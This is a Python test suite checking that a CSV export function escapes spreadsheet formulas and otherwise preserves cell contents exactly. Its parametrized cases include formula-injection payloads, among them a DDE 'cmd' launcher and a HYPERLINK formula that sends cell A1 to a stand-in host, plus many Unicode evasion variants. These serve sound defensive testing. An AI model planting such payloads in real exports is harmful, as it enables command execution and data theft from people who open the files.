"""CSV: every cell comes back as it was, and none of them is a formula."""

import csv
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from enquiries.spreadsheet import rows_as_csv


def read(cells: list[object]) -> list[str]:
    """One row, written and read again."""
    text = b"".join(rows_as_csv(["a"], [cells])).decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), strict=True))[1]


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example?"&A1,"Click")',
        "+1 (503) 555-0188",
        "+1+1",
        "-1+1",
        "-@SUM(A1)",
        "@SUM(1)",
        "\t=1",
        "\rtext",
        "\ntext",
        "\ttext",
        " =1",
        " \t\r\n=1",
        "\u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "\u2028=1",
        "\u202e=1",
        "\x01=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "﹦1",
        "﹣1",
        "−1+1",
        "-",
        "-١",
        "-5\n",
    ],
)
def test_it_puts_an_apostrophe_before_a_formula(formula):
    assert read([formula, "x"]) == [f"'{formula}", "x"]


def test_it_finds_a_formula_behind_a_nul():
    assert read(["\0=1", "a\0b"]) == ["'=1", "ab"]


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (None, ""),
        ("", ""),
        ("   ", "   "),
        (0, "0"),
        (-5, "-5"),
        (-5.25, "-5.25"),
        (-1e-9, "-1e-09"),
        (Decimal("-1E+5"), "-1E+5"),
        ("-5", "-5"),
        (True, "True"),
        (date(2026, 3, 9), "2026-03-09"),
        ("Q-ABC-123", "Q-ABC-123"),
        ("5 = 5", "5 = 5"),
        ("'quoted", "'quoted"),
    ],
)
def test_it_leaves_numbers_and_plain_text_alone(value, text):
    assert read([value, "x"]) == [text, "x"]


def test_it_refuses_to_take_infinity_for_a_number():
    assert read([float("-inf")]) == ["'-inf"]


@pytest.mark.parametrize("text", ['a "b" c', "a,b;c", "a\nb", "a\r\nb", "a\rb", "¿Puedo? 注射 😢"])
def test_it_keeps_quotes_commas_and_lines_inside_one_cell(text):
    assert read([text, "x"]) == [text, "x"]


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1))
def test_it_loses_nothing_of_any_text(cells):
    assert [cell.removeprefix("'") for cell in read(cells)] == [
        cell.removeprefix("'") for cell in cells
    ]


def test_it_writes_half_a_surrogate_pair_as_a_question_mark():
    assert read(["a\ud800"]) == ["a?"]


def test_it_starts_with_the_mark_that_excel_needs():
    assert b"".join(rows_as_csv(["Name"], [["Zoë"]])) == (b'\xef\xbb\xbf"Name"\r\n"Zo\xc3\xab"\r\n')


def test_it_guards_the_header_as_well():
    assert next(rows_as_csv(["=1"], [])).endswith(b'"\'=1"\r\n')


def test_it_sends_each_row_before_it_asks_for_the_next():
    asked = []

    def rows() -> Iterator[list[int]]:
        for number in range(3):
            asked.append(number)
            yield [number]

    pieces = rows_as_csv(["number"], rows())
    next(pieces)
    assert asked == []
    assert next(pieces) == b'"0"\r\n'
    assert asked == [0]
